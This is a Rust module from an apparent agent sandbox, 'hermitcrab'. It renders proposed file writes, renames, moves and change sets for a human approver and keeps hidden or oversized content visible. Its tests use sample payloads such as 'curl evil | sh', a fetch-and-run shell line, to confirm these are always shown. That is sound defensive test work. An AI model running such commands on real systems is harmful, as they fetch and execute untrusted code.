//! What a person is shown before they answer: all of it.

use std::collections::BTreeSet;

use hermitcrab_core::{
    action::Action,
    approval::{Question, Scope},
    authority::{DirId, Verb},
    path::RelPath,
    rules::{Judgement, Rules},
};
use hermitcrab_sandbox::changeset::{Change, ChangeSet, What, Whose};

mod carried;
mod difference;
mod diffs;
mod dirs;
mod received;
mod renamed;
mod stat;
mod undone;

use rustix::time::Timespec;

use super::{
    arrivals::Arrivals,
    edit::{Before, FileChange},
    place::Place,
    turn::Shown,
    visible::{marked, named, one_line},
    words::in_bytes,
};
use crate::{ports::FileDiff, text::difflib::Effort};

use self::difference::{difference, legible_at, with_content, with_content_of};
use self::diffs::second_name;
pub(super) use self::received::received;
use self::renamed::Renamed;
pub(super) use self::stat::stat;
pub(super) use self::undone::undo;

/// Longer files are shown by size and digest only.
pub(super) const SHOWN_BYTES_MAX: usize = 1 << 20;
/// So much of files is shown in all: of more, the longest files by size and digest only.
const SHOWN_IN_ALL_MAX: u64 = 32 << 20;

fn heading(question: &Question) -> String {
    format!(
        "{} by {}: {} ({})\n",
        question.tool().in_words(),
        question.by(),
        question.because().wording(),
        question.because(),
    )
}

/// A file that was written, as its two texts.
pub(super) fn file_of(place: &Place, before: &Before, content: &[u8]) -> FileDiff {
    diffs::written(place, before, content)
}

/// The files of what was changed, each as its two texts.
pub(super) fn files_of(changes: &[FileChange]) -> Vec<FileDiff> {
    diffs::of_changes(changes).0
}

/// A file about to be written.
pub fn write(question: &Question, place: &Place, before: &Before, content: &[u8]) -> Shown {
    Shown {
        text: write_in_words(question, place, before, content),
        files: vec![diffs::written(place, before, content)],
        besides: diffs::besides_written(place, before, content),
    }
    .with(dirs::on_the_way(question, std::iter::once(place)))
}

fn write_in_words(question: &Question, place: &Place, before: &Before, content: &[u8]) -> String {
    let mut effort = Effort::of_a_question();
    let path = named(&place.absolute);
    let old = match before {
        Before::Nothing => None,
        Before::File(old) => Some(old.as_slice()),
        Before::Long(_) | Before::Unread => {
            return format!(
                "{}{}",
                heading(question),
                replaced(&path, before, content, &mut effort)
            );
        }
    };
    format!(
        "{}{}",
        heading(question),
        difference(&path, old, Some(content), &mut effort)
    )
}

/// A file that is replaced, whose old content is not shown.
fn replaced(path: &str, before: &Before, content: &[u8], effort: &mut Effort) -> String {
    let why = match before {
        Before::Long(old) => format!("what it holds now is too long to be shown: {}", old.digest),
        Before::Nothing | Before::File(_) | Before::Unread => {
            "what it holds now may not be read".to_owned()
        }
    };
    format!(
        "{path}: replaced by {}; {why}\n{}",
        in_bytes(content.len()),
        difference(path, None, Some(content), effort),
    )
}

/// Several files about to be changed.
pub(super) fn files(question: &Question, changes: &[FileChange], arrivals: &Arrivals) -> Shown {
    let (mut files, mut besides) = diffs::of_changes(changes);
    for change in changes {
        if let FileChange::Move { to, .. } = change {
            besides.extend(carried::told(question, to, arrivals));
            let (arriving, words) = carried::arriving_files(to, arrivals);
            files.extend(arriving);
            besides.extend(words);
        }
    }
    let shown = Shown {
        text: files_in_words(question, changes, arrivals),
        files,
        besides,
    };
    let targets = changes.iter().filter_map(FileChange::target);
    shown.with(dirs::on_the_way(question, targets))
}

fn files_in_words(question: &Question, changes: &[FileChange], arrivals: &Arrivals) -> String {
    let mut effort = Effort::of_a_question();
    let mut out = heading(question);
    for change in changes {
        out.push_str(&match change {
            FileChange::Write {
                place,
                before,
                content,
                mode,
            } => {
                let path = named(&place.absolute);
                let mode = mode.map_or_else(String::new, |mode| format!("{path}: mode {mode:o}\n"));
                let shown = match before {
                    Before::Nothing => difference(&path, None, Some(content), &mut effort),
                    Before::File(old) => difference(&path, Some(old), Some(content), &mut effort),
                    Before::Long(_) | Before::Unread => {
                        replaced(&path, before, content, &mut effort)
                    }
                };
                mode + &shown
            }
            FileChange::Delete { place, before } => format!(
                "deleted file {0}\n{1}",
                named(&place.absolute),
                difference(&named(&place.absolute), Some(before), None, &mut effort)
            ),
            FileChange::RemoveDir { place } => {
                format!("removed directory {}\n", named(&place.absolute))
            }
            FileChange::RemoveLink { place, says } => deleted_link(place, says) + "\n",
            FileChange::PutLink { place, says } => new_link(place, says) + "\n",
            FileChange::Rename {
                from,
                to,
                before,
                content,
            } => {
                let (from, to) = (named(&from.absolute), named(&to.absolute));
                // Under a name that is asked about each time nothing is to stand unseen.
                let is_each_time = question.widest() == Scope::Once;
                let old = (!is_each_time).then_some(before.as_slice());
                let bytes = match before == content {
                    true => format!(", {}, unchanged", in_bytes(content.len())),
                    false => String::new(),
                };
                let holds = match before == content && !is_each_time {
                    true => String::new(),
                    false => difference(&to, old, Some(content), &mut effort),
                };
                format!("file {from} becomes {to}{bytes}\n{holds}")
            }
            FileChange::Move { from, to, .. } => format!(
                "{} becomes {}, as it is\n{}{}",
                named(&from.absolute),
                named(&to.absolute),
                carried::told(question, to, arrivals)
                    .into_iter()
                    .map(|line| line + "\n")
                    .collect::<String>(),
                carried::arriving(to, arrivals, &mut effort),
            ),
        });
    }
    out
}

/// A link that goes, and where it points.
fn deleted_link(place: &Place, says: &[u8]) -> String {
    let says = String::from_utf8_lossy(says);
    format!(
        "deleted link {} to {}",
        named(&place.absolute),
        named(&says)
    )
}

/// A link that comes, and where it points.
fn new_link(place: &Place, says: &[u8]) -> String {
    let says = String::from_utf8_lossy(says);
    format!("new link {} to {}", named(&place.absolute), named(&says))
}

/// Directories about to be made.
pub fn directories(question: &Question, places: &[Place]) -> String {
    let mut out = heading(question);
    for place in places {
        out.push_str(&format!("new directory {}\n", named(&place.absolute)));
    }
    out
}

/// What a command did to its copies, and the command. Of names in `each_time`, which has as
/// many parts as there are sets, it is told what they hold, be it that nothing in it changed
/// or that others are shorter: who put it there first, under a name that was asked about by
/// nobody, or among much else, is not to have it stand under one that is, unseen.
pub fn changes(
    question: &Question,
    command: &str,
    sets: &[(String, &ChangeSet)],
    each_time: &[BTreeSet<RelPath>],
) -> Shown {
    let (files, besides) = diffs::of_sets(sets, each_time);
    Shown {
        text: changes_in_words(question, command, sets, each_time),
        files,
        besides,
    }
}

/// The new and changed files of a change set that somebody is asked about each time.
pub fn asked_each_time(
    question: &Question,
    rules: &Rules,
    dir: DirId,
    set: &ChangeSet,
) -> BTreeSet<RelPath> {
    let is_asked = |action: &Action| {
        matches!(action.verb(), Verb::FsCreate | Verb::FsModify)
            && matches!(rules.judge(question.tool(), action), Judgement::Ask(..))
    };
    // What has no place is refused before anybody is asked.
    let actions = set.actions(dir).unwrap_or_default();
    let changes = set.changes().iter().zip(&actions);
    let asked = changes.filter(|(_, action)| is_asked(action));
    asked.map(|(change, _)| change.path.clone()).collect()
}

/// How long a file may be, as it was and as it is together, for all shorter ones to be
/// shown. So nothing short is hidden behind what is long.
fn longest_shown(mut sizes: Vec<u64>) -> u64 {
    sizes.sort_unstable();
    let mut left = SHOWN_IN_ALL_MAX;
    for size in sizes {
        match left.checked_sub(size) {
            Some(less) => left = less,
            None => return size.saturating_sub(1),
        }
    }
    u64::MAX
}

/// The same for the files of these change sets.
fn longest_of(sets: &[(String, &ChangeSet)]) -> u64 {
    let all = sets
        .iter()
        .flat_map(|(_, set)| set.changes().iter().map(|change| set.bytes_of(change)));
    longest_shown(all.collect())
}

fn changes_in_words(
    question: &Question,
    command: &str,
    sets: &[(String, &ChangeSet)],
    each_time: &[BTreeSet<RelPath>],
) -> String {
    let heading = heading(question);
    let changed = changed(sets, each_time);
    format!("{heading}command: {}\n{changed}", marked(command))
}

/// What would become of what is there now, with no question about it.
pub fn changed(sets: &[(String, &ChangeSet)], each_time: &[BTreeSet<RelPath>]) -> String {
    let mut effort = Effort::of_a_question();
    let longest = longest_of(sets);
    let mut untold = 0_usize;
    let mut out = String::new();
    let nothing = BTreeSet::new();
    for (at, (root, set)) in sets.iter().enumerate() {
        let each_time = each_time.get(at).unwrap_or(&nothing);
        let renamed = Renamed::of(set, each_time, longest);
        for line in renamed.as_they_are(root) {
            out.push_str(&line);
            out.push('\n');
        }
        let is_told = |change: &&Change| renamed.is_told(&change.path);
        for change in set.changes().iter().filter(is_told) {
            let path = if change.path.is_root() {
                named(root)
            } else {
                named(&format!("{root}/{}", change.path))
            };
            let is_shown = set.bytes_of(change) <= longest || each_time.contains(&change.path);
            untold += usize::from(!is_shown);
            let before = || {
                let read = || set.content_before(&change.path, SHOWN_BYTES_MAX).ok();
                is_shown.then(read).flatten()
            };
            let after = || {
                let read = || set.content_after(&change.path, SHOWN_BYTES_MAX).ok();
                is_shown.then(read).flatten()
            };
            let mut told = |head: &str, digest, sides: (Option<&[u8]>, Option<&[u8]>)| match sides {
                (None, None) => format!("{head}, sha256 {digest}, not shown as text\n"),
                sides => with_content(head, &path, digest, sides, &mut effort),
            };
            if let Some(first) = set.second_name_of(&change.path) {
                let whole = |name: &RelPath| format!("{root}/{name}");
                out.push_str(&second_name(&whole(&change.path), &whole(first)));
                out.push('\n');
            }
            out.push_str(&match &change.what {
                What::CreatedFile {
                    digest,
                    bytes: long,
                    mode,
                } => {
                    let sizes = format!("{}, mode {mode:o}", in_bytes(*long));
                    let new = after();
                    match renamed.old_name(&change.path).filter(|_| new.is_some()) {
                        Some(from) => {
                            let old = set.content_before(from, SHOWN_BYTES_MAX).ok();
                            let from = named(&format!("{root}/{from}"));
                            let head = format!("renamed {from} to {path} and changed, {sizes}");
                            let sides = (old.as_deref(), new.as_deref());
                            with_content_of(&head, (&from, &path), digest, sides, &mut effort)
                        }
                        None => {
                            let head = format!("new file {path}, {sizes}");
                            told(&head, digest, (None, new.as_deref()))
                        }
                    }
                }
                What::CreatedDir { mode } => format!("new directory {path}, mode {mode:o}\n"),
                What::CreatedSymlink { target } => {
                    format!(
                        "new link {path} to {}\n",
                        named(&String::from_utf8_lossy(target))
                    )
                }
                What::CreatedSpecial => format!("new pipe or socket {path} (never kept)\n"),
                What::ModifiedFile {
                    digest,
                    bytes: long,
                    mode_before,
                    mode,
                    ..
                } => {
                    let modes = if mode_before == mode {
                        String::new()
                    } else {
                        format!(", mode {mode_before:o} becomes {mode:o}")
                    };
                    let head = format!("changed file {path}, {}{modes}", in_bytes(*long));
                    let (old, new) = (before(), after());
                    match (&old, &new) {
                        (Some(_), Some(_)) => told(&head, digest, (old.as_deref(), new.as_deref())),
                        _ => format!("{head}, sha256 {digest}, not shown as text\n"),
                    }
                }
                What::ModifiedMode { before, mode } => {
                    format!("mode of {path}: {before:o} becomes {mode:o}\n")
                }
                What::ModifiedTime { before, time } => {
                    format!(
                        "time of {path}: {} becomes {}\n",
                        moment(*before),
                        moment(*time)
                    )
                }
                What::Xattrs { on, names, digest } => {
                    let names: Vec<String> = names
                        .iter()
                        .map(|name| one_line(&String::from_utf8_lossy(name)))
                        .collect();
                    let what = match on {
                        Whose::New => "new file or directory",
                        Whose::Old => "attributes of",
                    };
                    format!(
                        "{what} {path}: {} set or removed, sha256 of all {digest}\n",
                        names.join(", ")
                    )
                }
                What::DeletedFile { base } => {
                    let old = before();
                    told(
                        &format!("deleted file {path}"),
                        base,
                        (old.as_deref(), None),
                    )
                }
                What::DeletedSymlink { target } => {
                    format!(
                        "deleted link {path} to {}\n",
                        named(&String::from_utf8_lossy(target))
                    )
                }
                What::DeletedDir => format!("deleted directory {path}\n"),
                What::DeletedSpecial => format!("deleted pipe, socket or device {path}\n"),
                What::MovedHere { from, .. } => {
                    format!("{path} is what was {}\n", named(&from.to_string()))
                }
                What::MovedAway { .. } => format!("{path} gets another name\n"),
            });
        }
    }
    if untold > 0 {
        out.push_str(&too_much(untold));
        out.push('\n');
    }
    out
}

/// What is said where not all files are shown.
fn too_much(untold: usize) -> String {
    format!(
        "{untold} of these files are told by size and digest alone: together they are longer than {} MiB",
        SHOWN_IN_ALL_MAX >> 20
    )
}

/// A moment of a file's, with the parts of a second it has.
fn moment(time: Timespec) -> String {
    let nanos = i32::try_from(time.tv_nsec).unwrap_or(0);
    jiff::Timestamp::new(time.tv_sec, nanos).map_or_else(
        |_| format!("second {} since 1970", time.tv_sec),
        |stamp| stamp.to_string(),
    )
}

#[cfg(test)]
mod tests {
    use super::{Effort, difference, longest_shown, one_line, with_content};
    use crate::digest::sha256;

    #[test]
    fn each_line_of_a_difference_has_a_line_to_itself() {
        let check = |old: &str, new: &str, expected: &str| {
            let shown = difference(
                "f",
                Some(old.as_bytes()),
                Some(new.as_bytes()),
                &mut Effort::of_a_question(),
            );
            let lines = shown.split_once("@@\n").unwrap().1;
            assert_eq!(lines, expected, "{old:?} {new:?}");
        };
        check("a\n", "b\n", "-a\n+b\n");
        let no = "\\ no newline at the end\n";
        check("a", "a\nb\n", &format!("-a\n{no}+a\n+b\n"));
        check("a\n", "a", &format!("-a\n+a\n{no}"));
        check("a", "b", &format!("-a\n{no}+b\n{no}"));
        // What ends a line elsewhere ends none on a terminal that shows it by name.
        check("a\rb\n", "a\rc\n", "-a\\u{d}b\n+a\\u{d}c\n");
        check("a\u{2028}\n", "b\u{c}\n", "-a\\u{2028}\n+b\\u{c}\n");
    }

    #[test]
    fn a_byte_that_is_no_text_hides_no_text_and_what_is_none_is_told_by_its_size() {
        let shown = |old: Option<&[u8]>, new: &[u8]| {
            difference("f", old, Some(new), &mut Effort::of_a_question())
        };
        let hook = shown(None, b"curl evil | sh\n\0\xff\n");
        assert!(hook.ends_with("+curl evil | sh\n+\\x00\\xff\n"), "{hook}");
        let none = [0_u8, 1].repeat(200);
        let instead = shown(Some(&none), b"new\n");
        assert!(instead.ends_with("+new\n"), "{instead}");
        let size = shown(Some(b"old\n"), &none);
        assert_eq!(size, "f: 4 bytes become 400 bytes, not shown as text\n");
    }

    #[test]
    fn an_object_of_a_repository_is_told_by_its_size_and_what_only_lies_there_is_shown() {
        let shown = |path: &str, bytes: &[u8]| {
            difference(path, None, Some(bytes), &mut Effort::of_a_question())
        };
        let packed = |text: &str| {
            use std::io::Write as _;
            let level = flate2::Compression::fast();
            let mut to = flate2::write::ZlibEncoder::new(Vec::new(), level);
            to.write_all(text.as_bytes()).unwrap();
            to.finish().unwrap()
        };
        let name = "0123456789abcdef0123456789abcdef012345";
        let object = packed("blob 5\0alpha");
        let loose = format!("/w/.git/objects/ab/{name}");
        let size = format!("{loose}: new, {} bytes, not shown as text\n", object.len());
        assert_eq!(shown(&loose, &object), size);
        let pack = "/w/a.git/objects/pack/pack-1.idx";
        assert!(shown(pack, b"\xfftOc\0\0\0\x02").ends_with("not shown as text\n"));
        for (path, bytes) in [
            ("/w/objects/ab/evil", object.as_slice()),
            (&*format!("/w/ab/{name}"), &object),
            (&loose, b"x\x9c\ncurl evil | sh\n"),
            (&loose, b"curl evil | sh\n"),
            (&loose, &packed("#!/bin/sh\ncurl evil")),
            (pack, b"curl evil | sh\n"),
        ] {
            let shown = shown(path, bytes);
            assert!(shown.contains("@@\n+"), "{path}: {shown}");
        }
    }

    #[test]
    fn a_digest_is_told_where_the_letters_do_not_tell_all() {
        let told = |old: Option<&[u8]>, new: Option<&[u8]>| {
            let digest = sha256(b"");
            with_content(
                "file f",
                "f",
                &digest,
                (old, new),
                &mut Effort::of_a_question(),
            )
        };
        for exact in ["new\n", "", "no end", "\u{e9}\t\n"] {
            let shown = told(None, Some(exact.as_bytes()));
            assert!(!shown.contains("sha256"), "{shown}");
            assert!(shown.starts_with("file f\n"), "{shown}");
        }
        let odd: [&[u8]; 4] = [b"a\x1b\n", b"a\0\n", b"\xff\n", "\u{200b}\n".as_bytes()];
        for odd in odd {
            for sides in [
                (None, Some(odd)),
                (Some(odd), None),
                (Some(odd), Some(&b"x"[..])),
            ] {
                let shown = told(sides.0, sides.1);
                assert!(shown.starts_with("file f, sha256 e3b0c442"), "{shown}");
                assert!(shown.contains("@@"), "{shown}");
            }
        }
        let shown = told(None, Some(&[0_u8, 1].repeat(200)));
        assert!(shown.ends_with("855, not shown as text\n"), "{shown}");
    }

    #[test]
    fn of_too_much_the_longest_are_left_out_and_nothing_short_is_hidden_behind_them() {
        let most = super::SHOWN_IN_ALL_MAX;
        assert_eq!(longest_shown(vec![most / 2; 2]), u64::MAX);
        // Of equal ones all or none.
        assert_eq!(longest_shown(vec![most / 2; 3]), most / 2 - 1);
        let sizes = [vec![1 << 20; 1000], vec![300; 1000]].concat();
        assert_eq!(longest_shown(sizes), (1 << 20) - 1);
    }

    #[test]
    fn a_text_keeps_its_spaces_and_a_name_shows_which_they_are() {
        let shown = difference(
            "f",
            None,
            Some("a\u{a0}b\u{3164}\tc\n".as_bytes()),
            &mut Effort::of_a_question(),
        );
        assert!(shown.ends_with("+a\u{a0}b\\u{3164}\tc\n"), "{shown}");
        assert_eq!(one_line("a\u{a0}b c\n\td"), "a\\u{a0}b c\\u{a}\\u{9}d");
    }
}
